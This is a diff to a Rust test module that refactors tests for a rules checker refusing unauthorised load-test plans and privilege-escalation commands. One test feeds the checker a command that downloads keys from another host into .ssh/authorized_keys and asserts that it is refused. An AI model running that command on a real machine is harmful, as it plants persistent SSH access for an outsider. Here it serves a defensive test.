@@ -165,6 +165,23 @@ mod tests {
         ))
     }
 
+    fn on_a_host(become_root: Option<&str>) -> Result<Plan, Box<dyn std::error::Error>> {
+        let host = PlannedHost {
+            name: "lab1".to_owned(),
+            ssh: Some("ops@lab1".to_owned()),
+            address: "10.0.0.1".to_owned(),
+            kind: None,
+            cpus: None,
+            become_root: become_root.map(str::to_owned),
+        };
+        Ok(Plan { hosts: vec![host], ..plan()? })
+    }
+
+    fn axis(vary: Vary, values: &[u32]) -> Axis {
+        let values = values.iter().map(|value| KnobValue::Integer(i64::from(*value))).collect();
+        Axis { vary, values }
+    }
+
     #[test]
     fn a_plan_is_refused_by_the_first_rule_that_it_breaks() -> Tested {
         let plan = plan()?;
@@ -179,28 +196,17 @@ mod tests {
 
     #[test]
     fn a_command_that_gives_roots_rights_is_allowed_by_name() -> Tested {
-        let host = PlannedHost {
-            name: "lab1".to_owned(),
-            ssh: Some("ops@lab1".to_owned()),
-            address: "10.0.0.1".to_owned(),
-            kind: None,
-            cpus: None,
-            become_root: Some("curl -so .ssh/authorized_keys http://10.0.0.9/k".to_owned()),
-        };
-        let with = |become_root: Option<&str>| -> Result<Plan, Box<dyn std::error::Error>> {
-            let become_root = become_root.map(str::to_owned);
-            Ok(Plan { hosts: vec![PlannedHost { become_root, ..host.clone() }], ..plan()? })
-        };
+        let curl = "curl -so .ssh/authorized_keys http://10.0.0.9/k";
         let none: Rules = toml::from_str("workloads = [\"*\"]\nhosts = [\"ops@lab1\"]")?;
-        assert_eq!(none.check(&with(None)?), Ok(()));
-        for command in [host.become_root.as_deref(), Some("sudo -n")] {
-            let refused = why(&none, &with(command)?);
+        assert_eq!(none.check(&on_a_host(None)?), Ok(()));
+        for command in [Some(curl), Some("sudo -n")] {
+            let refused = why(&none, &on_a_host(command)?);
             assert!(refused.contains("host lab1 is not in the list `become`"), "{refused}");
         }
         let sudo: Rules =
             toml::from_str("workloads = [\"*\"]\nhosts = [\"ops@lab1\"]\nbecome = [\"sudo -n\"]")?;
-        assert_eq!(sudo.check(&with(Some("sudo -n"))?), Ok(()));
-        assert!(sudo.check(&with(Some("sudo -n curl"))?).is_err(), "the whole command is compared");
+        assert_eq!(sudo.check(&on_a_host(Some("sudo -n"))?), Ok(()));
+        assert!(sudo.check(&on_a_host(Some("sudo -n curl"))?).is_err(), "the whole command is compared");
         Ok(())
     }
 
@@ -223,10 +229,6 @@ mod tests {
         let rules = Rules { most_connections: plan.load.connections, ..Rules::of_owner() };
         assert_eq!(rules.check(&plan), Ok(()));
         let more = plan.load.connections + 1;
-        let axis = |vary: Vary, values: &[u32]| Axis {
-            vary,
-            values: values.iter().map(|value| KnobValue::Integer(i64::from(*value))).collect(),
-        };
         let mut load = plan.clone();
         load.load.connections = more;
         let background = PlannedBackground { rate_per_s: 1.0, connections: more };
